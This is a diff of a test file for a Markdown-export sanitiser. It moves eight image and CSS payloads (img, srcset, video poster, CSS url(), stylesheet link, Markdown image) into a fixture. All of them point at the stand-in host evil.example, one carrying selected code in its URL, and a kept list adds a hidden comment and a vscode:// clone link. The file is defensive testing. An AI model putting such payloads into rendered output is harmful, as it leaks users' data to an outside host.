@@ -4,6 +4,7 @@ import MarkdownIt from 'markdown-it';
 import { Marked } from 'marked';
 import { conversationMarkdown } from '../../src/chat/exportMarkdown';
 import type { AnswerView, TurnView } from '../../src/common/protocol';
+import { imageVectors } from '../fixtures/hostileAnswer';
 import { mdCodeSpan, mdFenced, mdLinkDestination, mdLine } from '../../src/common/markdown/escape';
 import { safeMarkdown } from '../../src/common/markdown/writer';
 
@@ -16,17 +17,7 @@ import { safeMarkdown } from '../../src/common/markdown/writer';
 
 const EVIL = 'https://evil.example';
 
-/** The issue's eight image and CSS vectors, one of whose URLs carries the selection. */
-const VECTORS = [
-  `![leak](${EVIL}/md.png?d=selected-code)`,
-  `<img src="${EVIL}/img.png">`,
-  `<img srcset="${EVIL}/srcset.png 1x">`,
-  `<video poster="${EVIL}/poster.png"></video>`,
-  `<div style="background:url(${EVIL}/bg.png)">x</div>`,
-  `<input type="image" src="${EVIL}/input.png">`,
-  `<link rel="stylesheet" href="${EVIL}/style.css">`,
-  `[![badge](${EVIL}/badge.svg)](https://docs.acme.test/)`,
-];
+const VECTORS = imageVectors(EVIL);
 const MORE = [
   '<!-- everything after this is hidden',
   `[clone](vscode://vscode.git/clone?url=${EVIL}/repo)`,
